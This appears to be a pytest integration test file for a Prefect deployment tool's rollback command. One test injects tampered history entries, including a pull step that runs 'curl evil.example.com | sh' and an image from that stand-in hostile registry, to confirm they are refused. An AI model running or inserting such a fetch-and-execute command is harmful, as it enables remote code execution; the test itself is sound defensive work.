"""rollback against a real Prefect server: deploy v1, deploy v2, roll back to v1, as a user runs it.

The deploy history is Prefect artifacts on the server (register/history.py); each test has a project of
its own, so its history key is its own too.
"""

from __future__ import annotations

import copy

import pytest

from register import history
from support.registration import Project, base_manifest, fake_registry, unique

pytestmark = pytest.mark.integration

OWNER = "managed-by:flow-register"
PREBUILT = ("--build", "never")


@pytest.fixture
def pool(api) -> str:
    name = unique("docker")
    api.create_pool(name, "docker")
    return name


@pytest.fixture
def project(tmp_path, prefect_server, pool) -> Project:
    return Project(tmp_path / "repo", prefect_server.api_url, unique("roll"))


def registered(api, project: Project) -> dict[str, dict]:
    found = api.deployments(OWNER, f"project:{project.name}", "environment:dev")
    return {name.removesuffix(f"-{project.name}"): d for name, d in found.items()}


def what_runs(deployment: dict) -> dict:
    """What a rollback must put back: the image, the parameters, the schedules (and the rest of the fields)."""
    return {"image": deployment["job_variables"].get("image"), "parameters": deployment["parameters"],
            "schedules": sorted((s["schedule"].get("cron"), s["active"]) for s in deployment["schedules"]),
            "version": deployment["version"], "tags": sorted(deployment["tags"])}


def deploy_v1_and_v2(project: Project, pool: str, registry: str):
    v1 = base_manifest(project.name, pool, image=f"{registry}/etl")
    project.write(v1)
    first = project.deploy(*PREBUILT)
    assert first.code == 0, first
    v2 = copy.deepcopy(v1)
    v2["deployments"][0]["parameters"] = {"region": "us"}
    v2["deployments"][0]["schedules"] = [{"cron": "0 7 * * *", "timezone": "Europe/Berlin"}]
    v2["deployments"].append({"name": "extra", "entrypoint": "flows/etl.py:extract"})
    (project.root / "flows" / "etl.py").write_text((project.root / "flows" / "etl.py").read_text() + "\n# v2\n")
    project.write(v2)
    second = project.deploy(*PREBUILT)
    assert second.code == 0, second
    assert first.json["image"]["reference"] != second.json["image"]["reference"]
    return first, second


def test_rollback_puts_v1_back_and_a_second_rollback_writes_nothing(project, api, pool):
    with fake_registry() as (registry, _):
        first, second = deploy_v1_and_v2(project, pool, registry)
        v2 = {name: what_runs(d) for name, d in registered(api, project).items()}
        ids = {name: d["id"] for name, d in registered(api, project).items()}

        listed = project.cli("rollback", "-e", "dev", "--list")
        assert listed.code == 0, listed
        lines = listed.out.splitlines()
        assert lines[0].startswith("revision 2: ") and "(registered now)" in lines[0]
        assert lines[1].startswith("revision 1: ") and first.json["image"]["reference"] in lines[1]

        planned = project.cli("rollback", "-e", "dev", "--to", "1", "--dry-run", "--detailed-exitcode")
        assert planned.code == 2, planned  # something would change
        assert "update" in planned.out and "parameters" in planned.out
        assert {name: what_runs(d) for name, d in registered(api, project).items()} == v2  # nothing written

        rolled = project.cli("rollback", "-e", "dev", "--to", "1", "--output", "json")
        assert rolled.code == 0, rolled
        now = registered(api, project)
        extract = now["extract"]
        assert extract["job_variables"]["image"] == first.json["image"]["reference"]
        assert extract["parameters"] == {"region": "eu"}
        assert [s["schedule"]["cron"] for s in extract["schedules"]] == ["0 6 * * *"]
        assert extract["version"] == first.json["image"]["content_tag"]
        assert {name: d["id"] for name, d in now.items()} == ids  # updated in place
        # made after revision 1: kept and listed without --prune, as a deploy keeps what the manifest lost
        assert "extra" in now and "extra" in rolled.out
        assert len(api.automations_of(extract["id"])) == 1

        again = project.cli("rollback", "-e", "dev", "--to", "1", "--output", "json")
        assert again.code == 0, again
        assert again.json["requests"]["writes"] == 0
        assert {d["action"] for d in again.json["deployments"]} == {"unchanged"}

        # the rollback is a revision of its own: rolling back to revision 2 puts v2 back
        listed = project.cli("rollback", "-e", "dev", "--list")
        assert listed.out.splitlines()[0].startswith("revision 3: ") and "rollback to revision 1" in listed.out
        forward = project.cli("rollback", "-e", "dev", "--to", "2")
        assert forward.code == 0, forward
        assert {name: what_runs(d) for name, d in registered(api, project).items()} == v2

        pruned = project.cli("rollback", "-e", "dev", "--to", "1", "--prune", "--output", "json")
        assert pruned.code == 0, pruned
        assert set(registered(api, project)) == {"extract", "weekly"}


def test_a_tampered_history_is_refused_with_its_reason_and_nothing_is_written(project, api, pool):
    with fake_registry() as (registry, _):
        deploy_v1_and_v2(project, pool, registry)
        before = {name: (what_runs(d), d["updated"]) for name, d in registered(api, project).items()}
        newest = api.post("/artifacts/filter", {"artifacts": {"key": {"any_": [history.key(project.name, "dev")]}},
                                                "sort": "CREATED_DESC"})
        assert [a["data"]["revision"] for a in newest] == [2, 1]
        attacks = {
            "an image of another registry": lambda d: d["deployments"][0]["fields"]["job_variables"].update(
                image="evil.example.com/etl@sha256:" + "0" * 64),
            "an image by tag": lambda d: d["deployments"][0]["fields"]["job_variables"].update(
                image=f"{registry}/etl:latest"),
            "a pull step that runs a program": lambda d: d["deployments"][0]["fields"].update(pull_steps=[
                {"prefect.deployments.steps.run_shell_script": {"script": "curl evil.example.com | sh"}}]),
            "another project's deployment": lambda d: d["deployments"][0]["fields"].update(tags=["x"]),
            "a field flow-register never writes": lambda d: d["deployments"][0]["fields"].update(infra_overrides={}),
        }
        for number, (attack, tamper) in enumerate(attacks.items(), start=100):
            data = copy.deepcopy(newest[1]["data"])
            data["revision"] = number
            tamper(data)
            api.post("/artifacts/", {"key": history.key(project.name, "dev"), "type": "flow-register-history",
                                     "data": data})
            refused = project.cli("rollback", "-e", "dev", "--to", str(number))
            assert refused.code == 1, (attack, refused)
            assert "deploy history" in refused.err and "[history]" in refused.err, (attack, refused)
            assert "nothing was written" in refused.err
        assert "evil.example.com" in project.cli("rollback", "-e", "dev", "--to", "100").err
        after = {name: (what_runs(d), d["updated"]) for name, d in registered(api, project).items()}
        assert after == before
